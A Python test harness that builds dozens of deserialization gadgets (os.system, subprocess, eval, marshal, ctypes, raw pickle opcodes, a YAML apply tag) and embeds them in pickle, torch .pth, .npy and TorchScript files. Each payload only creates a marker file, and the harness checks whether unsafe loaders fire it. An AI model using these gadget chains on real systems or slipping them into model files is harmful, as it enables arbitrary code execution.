"""Files that run something when they are unpickled: each makes a file, the marker, once its payload has run."""

from __future__ import annotations

import io
import json
import marshal
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import numpy as np
import safetensors.numpy
import torch

END = b"."


class Call:
    """Unpickles as the value of `function(*arguments)`; the arguments may be calls themselves."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.arguments


class Named:
    """Unpickles as what a module calls by a name: nothing is imported to write it."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class _Pickler(pickle._Pickler):
    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Named):
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        elif isinstance(obj, Call):
            self.save(obj.function)
            self.save(obj.arguments)
            self.write(pickle.REDUCE)
        else:
            super().save(obj, save_persistent_id)


def pickled(thing: Any, protocol: int = 2) -> bytes:
    """A pickle of calls and plain values."""
    stream = io.BytesIO()
    _Pickler(stream, protocol).dump(thing)
    return stream.getvalue()


def shell(marker: Path) -> str:
    return f"touch '{marker}'"


def code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def text(value: str) -> bytes:
    return pickle.BINUNICODE + struct.pack("<I", len(value.encode())) + value.encode()


def _method(thing: Any, name: str, *arguments: Any) -> Call:
    return Call(Call(Named("operator", "methodcaller"), name, *arguments), thing)


def _function(marker: Path) -> Call:
    made = compile(code(marker), "x", "exec")
    return Call(Call(Named("types", "FunctionType"), Call(Named("marshal", "loads"), marshal.dumps(made)), {}))


def _from_parts(marker: Path) -> Call:
    def payload(path: str) -> None:
        open(path, "w").close()  # noqa: PTH123 - as short as code can be

    made = payload.__code__
    told = (
        made.co_argcount, made.co_posonlyargcount, made.co_kwonlyargcount, made.co_nlocals, made.co_stacksize,
        made.co_flags, made.co_code, made.co_consts, made.co_names, made.co_varnames, "x", "x", "x", 1,
        made.co_linetable, made.co_exceptiontable,
    )  # fmt: skip
    assert isinstance(types.CodeType(*told), types.CodeType)
    builtins = Call(Named("importlib", "import_module"), "builtins")
    function = Call(Named("types", "FunctionType"), Call(Named("types", "CodeType"), *told), {"__builtins__": builtins})
    return Call(function, str(marker))


def _built(marker: Path) -> bytes:
    """A partial object that BUILD turns into another, which is called then."""
    state = (Named("os", "system"), (shell(marker),), {}, None)
    partial = pickled(Call(Named("functools", "partial"), Named("builtins", "print")))[:-1]
    return partial + pickled(state)[2:-1] + pickle.BUILD + pickle.EMPTY_TUPLE + pickle.REDUCE + END


def _extension(marker: Path) -> bytes:
    """By a number that `copyreg` knows: `register` must have run."""
    return b"\x80\x02\x82\xf0" + text(shell(marker)) + pickle.TUPLE1 + pickle.REDUCE + END


def register() -> None:
    import copyreg

    with_it: Any = copyreg._extension_registry  # type: ignore[attr-defined]
    if ("os", "system") not in with_it:
        copyreg.add_extension("os", "system", 0xF0)


GADGETS: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda marker: pickled(Call(Named("os", "system"), shell(marker))),
    "posix.system": lambda marker: pickled(Call(Named("posix", "system"), shell(marker))),
    "os.popen": lambda marker: pickled(_method(Call(Named("os", "popen"), shell(marker)), "read")),
    "os.mkdir": lambda marker: pickled(Call(Named("os", "mkdir"), str(marker))),
    "os.spawnlp": lambda marker: pickled(Call(Named("os", "spawnlp"), 0, "touch", "touch", str(marker))),
    "subprocess.Popen": lambda marker: pickled(
        _method(Call(Named("subprocess", "Popen"), ["touch", str(marker)]), "wait")
    ),
    "subprocess.check_output": lambda marker: pickled(
        Call(Named("subprocess", "check_output"), ["touch", str(marker)])
    ),
    "builtins.exec": lambda marker: pickled(Call(Named("builtins", "exec"), code(marker))),
    "builtins.eval": lambda marker: pickled(Call(Named("builtins", "eval"), code(marker))),
    "__builtin__.eval, protocol 0": lambda marker: pickled(Call(Named("__builtin__", "eval"), code(marker)), 0),
    "builtins.open": lambda marker: pickled(Call(Named("builtins", "open"), str(marker), "w")),
    "builtins.__import__, getattr": lambda marker: pickled(
        Call(
            Call(Named("builtins", "getattr"), Call(Named("builtins", "__import__"), "os"), "system"), shell(marker)
        )
    ),
    "runpy": lambda marker: pickled(Call(Named("runpy", "_run_code"), code(marker), {})),
    "importlib": lambda marker: pickled(
        _method(Call(Named("importlib", "import_module"), "os"), "system", shell(marker))
    ),
    "pty.spawn": lambda marker: pickled(Call(Named("pty", "spawn"), ["touch", str(marker)])),
    "webbrowser": lambda marker: pickled(
        _method(Call(Named("webbrowser", "GenericBrowser"), ["touch", "%s"]), "open", str(marker))
    ),
    "functools.partial": lambda marker: pickled(
        Call(Call(Named("functools", "partial"), Named("os", "system"), shell(marker)))
    ),
    "operator.attrgetter": lambda marker: pickled(
        Call(
            Call(Call(Named("operator", "attrgetter"), "path.os.system"), Call(Named("builtins", "__import__"), "os")),
            shell(marker),
        )
    ),
    "builtins.map": lambda marker: pickled(
        Call(Named("builtins", "list"), Call(Named("builtins", "map"), Named("os", "system"), [shell(marker)]))
    ),
    "operator.methodcaller": lambda marker: pickled(
        Call(
            Call(Named("operator", "methodcaller"), "system", shell(marker)),
            Call(Named("importlib", "import_module"), "posix"),
        )
    ),
    "BUILD": _built,
    "copyreg and EXT": _extension,
    "STACK_GLOBAL": lambda marker: (
        b"\x80\x04" + text("os") + text("system") + pickle.STACK_GLOBAL + text(shell(marker)) + pickle.TUPLE1
        + pickle.REDUCE + END
    ),
    "INST": lambda marker: pickle.MARK + text(shell(marker)) + pickle.INST + b"os\nsystem\n" + END,
    "OBJ": lambda marker: pickle.MARK + b"cos\nsystem\n" + text(shell(marker)) + pickle.OBJ + END,
    "inside a dictionary": lambda marker: pickled({"model": {"a": [1, Call(Named("os", "system"), shell(marker))]}}),
    "marshal and a function": lambda marker: pickled(_function(marker)),
    "a code object and a function": lambda marker: pickled(_from_parts(marker)),
    "timeit": lambda marker: pickled(Call(Named("timeit", "timeit"), code(marker), "pass", Named("time", "time"), 1)),
    "code.InteractiveInterpreter": lambda marker: pickled(
        _method(Call(Named("code", "InteractiveInterpreter")), "runsource", code(marker))
    ),
    "ctypes": lambda marker: pickled(
        Call(
            Call(Named("builtins", "getattr"), Call(Named("ctypes", "CDLL"), None), "system"), shell(marker).encode()
        )
    ),
    "numpy.testing.runstring": lambda marker: pickled(Call(Named("numpy.testing", "runstring"), code(marker), {})),
    "a pickle in a pickle": lambda marker: pickled(
        Call(Named("pickle", "loads"), pickled(Call(Named("os", "system"), shell(marker))))
    ),
    "torch.storage._load_from_bytes": lambda marker: pickled(
        Call(Named("torch.storage", "_load_from_bytes"), legacy(pickled(Call(Named("os", "system"), shell(marker)))))
    ),
    "torch, a function that compiles": lambda marker: pickled(
        Call(Named("torch.jit.unsupported_tensor_ops", "execWrapper"), code(marker), {}, {})
    ),
}  # fmt: skip


# ---- formats that carry a pickle --------------------------------------------------------------------------------


def legacy(payload: bytes) -> bytes:
    """A .pth file as torch wrote it before 1.6."""
    head = [torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True}]
    return b"".join(pickle.dumps(one, 2) for one in head) + payload + pickle.dumps([], 2)


def zipped(payload: bytes) -> bytes:
    """A .pth file as torch writes it."""
    stream = io.BytesIO()
    torch.save({}, stream)
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as source, zipfile.ZipFile(made, "w") as target:
        for member in source.infolist():
            data = payload if member.filename.endswith("data.pkl") else source.read(member)
            target.writestr(member.filename, data)
    return made.getvalue()


def tarred(payload: bytes) -> bytes:
    """A .pth file as torch wrote it in its first year."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as target:
        for name, data in (
            ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", payload),
        ):
            about = tarfile.TarInfo(name)
            about.size = len(data)
            target.addfile(about, io.BytesIO(data))
    return made.getvalue()


def objects(payload: bytes) -> bytes:
    """An .npy file of Python objects."""
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return stream.getvalue() + payload


def in_metadata(payload: bytes) -> bytes:
    """A .safetensors file with a pickle among its metadata."""
    return safetensors.numpy.save({"a": np.zeros(3, np.float32)}, {"pickle": payload.hex()})


FORMATS: dict[str, Callable[[bytes], bytes]] = {
    "pickle": lambda payload: payload,
    "zip": zipped,
    "legacy": legacy,
    "tar": tarred,
    "npy": objects,
}


class _Saving(torch.nn.Module):
    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.kept = torch.zeros(1)

    def forward(self) -> torch.Tensor:
        return self.kept

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return self.kept, self.marker, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.kept = state[0]
        self.marker = state[1]
        self.training = state[2]
        torch.save(state[0], state[1])


def scripted(marker: Path) -> bytes:
    """A TorchScript archive that writes the marker as it is loaded."""
    stream = io.BytesIO()
    torch.jit.save(torch.jit.script(_Saving(str(marker))), stream)
    return stream.getvalue()


class _InModule:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.marker),)


def module(marker: Path) -> bytes:
    """A whole torch module, one of whose attributes runs something."""
    made = torch.nn.Linear(2, 2)
    made.told = _InModule(marker)  # type: ignore[assignment]
    stream = io.BytesIO()
    torch.save(made, stream)
    return stream.getvalue()


def hooked(marker: Path) -> bytes:
    """A tensor whose hooks run something while it is rebuilt."""
    rebuilt = Call(
        Named("torch._utils", "_rebuild_parameter_with_state"),
        Call(Named("torch", "zeros"), 2), True, Call(Named("collections", "OrderedDict")),
        {"a": Call(Named("os", "mkdir"), str(marker))},
    )  # fmt: skip
    return zipped(pickled({"a": rebuilt}))


ARCHIVES: dict[str, Callable[[Path], bytes]] = {"TorchScript": scripted, "a module": module, "hooks": hooked}


# ---- that they run at all ---------------------------------------------------------------------------------------


def fired(loads: Iterable[tuple[Callable[[], object], Path]]) -> list[bool]:
    """Whether each marker is there once its load has run, in a process of its own each."""
    found = []
    for load, marker in loads:
        child = os.fork()
        if child == 0:
            try:
                nowhere = os.open(os.devnull, os.O_RDWR)
                for stream in range(3):
                    os.dup2(nowhere, stream)
                load()
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        found.append(marker.exists())
    return found


def main() -> None:
    """Load everything as a careless program would, below the folder that is given; tells what has not fired."""
    import yaml

    folder = Path(sys.argv[1])
    register()
    tried: list[tuple[str, Callable[[], object], Path]] = []
    for place, (name, make) in enumerate(GADGETS.items()):
        for kind, wrap in FORMATS.items():
            marker = folder / f"{place}-{kind}"
            data = wrap(make(marker))
            if kind == "pickle":
                load: Callable[[], object] = lambda data=data: pickle.loads(data)  # noqa: E731
            elif kind == "npy":
                load = lambda data=data: np.load(io.BytesIO(data), allow_pickle=True)  # noqa: E731
            else:
                path = folder / f"{place}-{kind}.pth"
                path.write_bytes(data)
                load = lambda path=path: torch.load(path, weights_only=False)  # noqa: E731
            tried.append((f"{name}, {kind}", load, marker))
    for name, archive in ARCHIVES.items():
        marker = folder / name
        data = archive(marker)
        tried.append((name, lambda data=data: torch.load(io.BytesIO(data), weights_only=False), marker))
    marker = folder / "yaml"
    told = f"!!python/object/apply:os.system ['touch {marker}']"
    tried.append(("yaml", lambda: yaml.load(told, yaml.UnsafeLoader), marker))
    ran = fired((load, marker) for _, load, marker in tried)
    json.dump({name: fine for (name, _, _), fine in zip(tried, ran, strict=True)}, sys.stdout)


if __name__ == "__main__":
    main()
